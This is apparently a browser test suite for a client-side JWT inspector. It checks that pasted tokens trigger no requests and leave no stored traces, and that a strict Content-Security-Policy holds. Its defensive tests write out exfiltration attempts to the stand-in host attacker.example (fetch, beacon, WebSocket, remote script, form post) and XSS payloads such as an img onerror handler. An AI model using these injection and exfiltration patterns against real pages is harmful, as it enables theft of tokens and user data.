// Nothing leaves the page: no request of any kind after it is ready, nothing of a paste in any place
// that outlives the text box or that others can read; and the policy the browser enforces says so too.
import assert from "node:assert/strict";
import { createHmac, generateKeyPairSync, sign } from "node:crypto";
import { describe, test } from "node:test";
import { CLIPBOARD, NOW, except, fetched, launched, place, url, visit } from "./browser.mjs";
import { Keys } from "./keys.mjs";
import { OPAQUE, access, encode, jws } from "./tokens.mjs";

const browser = await launched();

const SECRET = "correct-horse-battery";
/** A word that stands in every paste below, in the clear or encoded. */
const MARKED = "marked-248289761001";

const PASTES = [
  access({ sub: MARKED }),
  // A token that names places to fetch keys from, as an attacker's would.
  jws({ alg: "RS256", jku: "https://attacker.example/jwks.json", x5u: "https://attacker.example/c.pem" }, { iss: "https://attacker.example/", sub: MARKED, picture: "https://attacker.example/p.png", website: `<img src="https://attacker.example/x.png">` }),
  `Authorization: Basic ${Buffer.from(`${MARKED}:${SECRET}`).toString("base64")}`,
  `Authorization: Bearer ${OPAQUE}`,
  `https://app.example.com/cb?state=${MARKED}#access_token=${access({ sub: MARKED })}`,
  `{"error":"invalid_client","error_description":"${MARKED}","error_uri":"https://attacker.example/why"}`,
  `${MARKED} is no token at all`,
];

/** Everything of the page that outlives a paste or can be read by others. */
function traces(page) {
  return page.evaluate(async () => JSON.stringify({
    address: location.href,
    title: document.title,
    history: [history.length, history.state],
    cookie: document.cookie,
    local: { ...localStorage },
    session: { ...sessionStorage },
    name: window.name,
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
    // A file has none, and may not even ask.
    workers: location.protocol === "file:" ? 0 : (await navigator.serviceWorker.getRegistrations()).length,
    globals: Object.keys(globalThis).filter((key) => typeof globalThis[key] === "string").map((key) => globalThis[key]),
  }));
}

test("no request and no trace, whatever is pasted and whatever is done with it", async () => {
  const session = await visit(browser, { now: NOW, context: CLIPBOARD });
  const { page, claimlens } = session;
  const before = await traces(page);
  for (const text of PASTES) {
    await claimlens.replace(text);
    assert.ok(await claimlens.headline());
    await claimlens.toggleRawJson();
    for (const button of await page.locator("[data-do=copy]:visible").all()) await button.click();
    for (const button of await page.locator("[data-do=goto]:visible").all()) await button.click();
    await claimlens.toggleRawJson();
    await claimlens.clear();
    await claimlens.undo();
    await claimlens.clear();
    await claimlens.drop({ text, name: "paste.txt", asFile: true });
    assert.deepEqual(session.requestsSince(), []);
    assert.equal(await traces(page), before);
  }
  // The page would ask a while later, or while it is left.
  await page.waitForTimeout(2_500);
  const requests = session.requests.length;
  await page.evaluate(() => dispatchEvent(new Event("pagehide")));
  assert.equal(session.requests.length, requests);
  assert.equal(await traces(page), before);
  await session.end();
});

test("what is expected stays in this tab, without the token; nothing else is stored", async () => {
  const session = await visit(browser, { now: NOW });
  const { page, claimlens } = session;
  await claimlens.replace(access({ sub: MARKED }));
  await claimlens.expect({ issuer: "https://login.example.com/", audience: "orders" });
  await claimlens.theme("dark");
  const stored = await page.evaluate(() => ({ local: { ...localStorage }, session: { ...sessionStorage } }));
  assert.deepEqual(Object.keys(stored.local), ["claimlens.theme"]);
  assert.equal(stored.local["claimlens.theme"], "dark");
  assert.deepEqual(Object.keys(stored.session), ["claimlens.expectations"]);
  assert.equal(stored.session["claimlens.expectations"], "expect-issuer https://login.example.com/\nexpect-audience orders\n");
  await session.end();
});

test("keys are given, tokens verified, a secret searched: no request but for the list, and no trace", async () => {
  const session = await visit(browser, { now: NOW, context: CLIPBOARD });
  const { page, claimlens } = session;
  const keys = new Keys(session);
  const before = await traces(page);
  const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const pem = (key, type) => key.export({ type, format: "pem" });
  const input = `${encode('{"alg":"ES256","jku":"https://attacker.example/jwks.json"}')}.${encode(JSON.stringify({ iss: "https://attacker.example/", sub: MARKED }))}`;
  const token = `${input}.${sign("sha256", Buffer.from(input), { key: privateKey, dsaEncoding: "ieee-p1363" }).toString("base64url")}`;
  await claimlens.replace(token);
  await keys.give(SECRET);
  assert.equal((await keys.outcome()).tone, "bad");
  for (const key of [pem(publicKey, "spki"), pem(privateKey, "pkcs8")]) {
    await keys.give(key);
    assert.match((await keys.outcome()).lead, /^The signature verifies/);
    assert.deepEqual(session.requestsSince(), []);
    assert.equal(await traces(page), before);
  }
  const part = `${encode('{"alg":"HS256"}')}.${encode(JSON.stringify({ sub: MARKED }))}`;
  const hmac = (secret) => `${part}.${createHmac("sha256", secret).update(part).digest("base64url")}`;
  await claimlens.replace(hmac(SECRET));
  await keys.give(SECRET);
  assert.match((await keys.outcome()).lead, /^The signature verifies/);
  assert.deepEqual(session.requestsSince(), []);
  assert.equal(await traces(page), before);
  // The search: its own list, from here, when it was asked for, and with nothing of the token in the request.
  await claimlens.replace(hmac("letmein"));
  await page.click("[data-do=check-search]");
  await page.locator("#check", { hasText: "letmein" }).waitFor();
  const asked = session.requestsSince();
  assert.deepEqual(asked.map((address) => address.replace(/-[0-9a-f]{16}/, "")), fetched("secrets.txt"));
  session.loaded = session.requests.length;
  await claimlens.clear();
  await page.waitForTimeout(500);
  assert.equal(await traces(page), before);
  await session.end();
});

test("a token in the page's own address is not taken, and not sent on", async () => {
  const token = access({ sub: MARKED });
  const session = await visit(browser, { now: NOW, address: `${url}#access_token=${token}` });
  assert.equal(await session.claimlens.text(), "");
  assert.ok(session.requests.every((address) => !address.slice(url.length).includes(token)) || session.requests[0].includes("#"));
  await session.end();
});

test("it works with the network switched off", async () => {
  const session = await visit(browser, { now: NOW });
  await session.context.setOffline(true);
  await session.claimlens.replace(PASTES[0]);
  assert.match(await session.claimlens.headline(), /^Access token from login\.example\.com/);
  await session.end();
});

test("the line that says what is sent is that of the page one is on", async () => {
  const session = await visit(browser, { now: NOW });
  const { page, claimlens } = session;
  const promise = async () => (await page.locator("#promise:visible, #leaves:visible").allInnerTexts()).join(" ");
  assert.equal(await promise(), "It stays in this tab. Nothing is sent.");
  await page.click("#nav-request");
  // The one thing that is asked without a press: whether there is somebody to send it to.
  await session.toRequest();
  assert.match(await promise(), place === "file" ? /^Nothing is sent from here/ : /^Request sends the client id and the secret to this server, http/);
  await page.click("#nav-inspect");
  await claimlens.settled();
  assert.equal(await promise(), "It stays in this tab. Nothing is sent.");
  await session.end();
});

test("opening the list of files makes one request, to the own origin, and it is the only one there is", except({ file: "it has no list of other files" }), async () => {
  const session = await visit(browser, { now: NOW });
  await session.claimlens.replace(PASTES[0]);
  await session.page.click("#how > summary");
  await session.page.locator("#build li").first().waitFor();
  assert.deepEqual(session.requestsSince(), fetched("build.json"));
  session.loaded = session.requests.length;
  // The list is true: every file named is the one that is served.
  const list = await session.page.locator("#build li").allTextContents();
  assert.ok(list.some((line) => line.includes(".wasm")), "the list names the program");
  await session.end();
});

describe("the Content-Security-Policy", () => {
  const NO_HEADERS = "a file comes without headers";

  /** A policy as a map of directives. */
  const parsed = (policy) => Object.fromEntries(policy.split(";").map((part) => part.trim().split(/\s+/)).map(([name, ...values]) => [name, values.sort()]));

  test("is the same in the header and in the page, but for what a page cannot say of itself", except({ file: NO_HEADERS }), async () => {
    const answer = await fetch(url);
    const header = parsed(answer.headers.get("content-security-policy"));
    const html = await answer.text();
    const meta = parsed(html.match(/<meta http-equiv="?Content-Security-Policy"? content="([^"]+)"/i)[1].replaceAll("&#39;", "'"));
    assert.deepEqual(header["frame-ancestors"], ["'none'"]);
    delete header["frame-ancestors"];
    assert.deepEqual(meta, header);
    assert.deepEqual(meta["default-src"], ["'none'"]);
    assert.deepEqual(meta["connect-src"], ["'self'"]);
    assert.deepEqual(meta["style-src"], ["'self'"]);
    for (const [name, values] of Object.entries(meta)) {
      for (const value of values) {
        assert.match(value, /^('none'|'self'|'wasm-unsafe-eval'|'sha256-[^']+'|data:|blob:)$/, `${name} allows ${value}`);
        if (value === "data:") assert.equal(name, "img-src");
        // What is in the page's memory: the checker's worker, and nothing else.
        if (value === "blob:") assert.equal(name, "worker-src");
      }
    }
  });

  test("every file is served with headers that keep it what it is", except({ file: NO_HEADERS }), async () => {
    const html = await (await fetch(url)).text();
    const names = [...html.matchAll(/(?:href|src|data-js|data-wasm)="(?:\.\/|\/)?([\w.-]+\.(?:css|js|wasm))"/g)].map(([, name]) => name);
    assert.ok(names.length >= 4, "the page names its files");
    for (const name of ["", "build.json", ...names]) {
      const { headers, status } = await fetch(new URL(name, url));
      assert.equal(status, 200, name);
      assert.equal(headers.get("x-content-type-options"), "nosniff", name);
      assert.equal(headers.get("referrer-policy"), "no-referrer", name);
      assert.match(headers.get("content-security-policy"), /default-src 'none'/, name);
    }
  });

  // Each is tried as a script that got into the page would; all must be refused, and nothing sent.
  const attacks = {
    "a fetch elsewhere": () => fetch("https://attacker.example/?t=1").then(() => "went", () => "refused"),
    "a beacon": () => navigator.sendBeacon("https://attacker.example/", "t") && "queued",
    "an image": () => new Promise((done) => {
      const image = new Image();
      image.onload = () => done("went");
      image.onerror = () => done("refused");
      image.src = "https://attacker.example/p.png";
    }),
    "a web socket": () => new Promise((done) => {
      try {
        const socket = new WebSocket("wss://attacker.example/");
        socket.onopen = () => done("went");
        socket.onerror = () => done("refused");
      } catch {
        done("refused");
      }
    }),
    "an inline script": () => {
      const script = document.createElement("script");
      script.textContent = "globalThis.injected = true";
      document.body.append(script);
      return globalThis.injected ? "went" : "refused";
    },
    "a handler in an attribute": () => {
      const holder = document.createElement("div");
      holder.innerHTML = '<button onclick="globalThis.injected = true">x</button>';
      document.body.append(holder);
      holder.firstChild.click();
      return globalThis.injected ? "went" : "refused";
    },
    "a script from elsewhere": () => new Promise((done) => {
      const script = document.createElement("script");
      script.onload = () => done("went");
      script.onerror = () => done("refused");
      script.src = "https://attacker.example/x.js";
      document.body.append(script);
    }),
    "text run as a program": () => {
      // A timer's text: evaluating from here would be the tester's, which no policy holds.
      setTimeout("globalThis.injected = true");
      return new Promise((done) => setTimeout(() => done(globalThis.injected ? "went" : "refused"), 100));
    },
    "a style attribute": () => {
      const holder = document.createElement("div");
      holder.innerHTML = '<p style="background: url(https://attacker.example/p.png)">x</p>';
      document.body.append(holder);
      return holder.firstChild.style.background ? "went" : "refused";
    },
    "a frame": () => {
      const frame = document.createElement("iframe");
      frame.src = "https://attacker.example/";
      document.body.append(frame);
      return "tried";
    },
    "a form": () => {
      const form = document.createElement("form");
      form.action = "https://attacker.example/";
      form.method = "post";
      document.body.append(form);
      form.submit();
      return "tried";
    },
  };
  for (const [name, attack] of Object.entries(attacks)) {
    const before = name === "a fetch elsewhere" && { file: "what stands in for fetch there refuses before the policy is asked, see single.spec" };
    test(`refuses ${name}`, except(before || {}), async () => {
      const session = await visit(browser);
      // Whatever came through would be seen here, and go no further.
      const left = [];
      await session.page.route(/attacker\.example/, (route) => {
        left.push(route.request().url());
        return route.abort();
      });
      assert.notEqual(await session.page.evaluate(attack), "went");
      await session.page.waitForFunction(() => globalThis.seen.violations.length, undefined, { timeout: 2_000 });
      assert.equal(await session.page.evaluate(() => globalThis.injected), undefined);
      assert.deepEqual(left, []);
      assert.equal(session.page.url(), url);
      await session.context.close();
    });
  }

  test("HTML in a claim stays text", async () => {
    const session = await visit(browser, { now: NOW });
    const html = `<img src=x onerror="globalThis.injected=1"><script>globalThis.injected=1</script><b id=bold>bold</b>`;
    await session.claimlens.replace(jws({ alg: "RS256", kid: html }, { iss: html, sub: html, aud: html, scope: html, [html]: html }));
    await session.claimlens.toggleRawJson();
    assert.equal(await session.page.evaluate(() => globalThis.injected ?? document.querySelector("#bold, #report img, #report script")), null);
    assert.equal(await session.claimlens.claim("sub"), html);
    await session.end();
  });
});

test("a JWE's or a nested token's content is not sent anywhere either", async () => {
  const session = await visit(browser, { now: NOW });
  await session.claimlens.replace(jws({ alg: "RS256", cty: "JWT" }, access({ sub: MARKED })));
  assert.equal(await session.claimlens.count(), 2);
  await session.claimlens.replace([encode('{"alg":"dir","enc":"A256GCM","jku":"https://attacker.example/"}'), "", encode("i".repeat(12)), encode("c"), encode("t".repeat(16))].join("."));
  assert.match(await session.claimlens.headline(), /^Encrypted token/);
  await session.end();
});
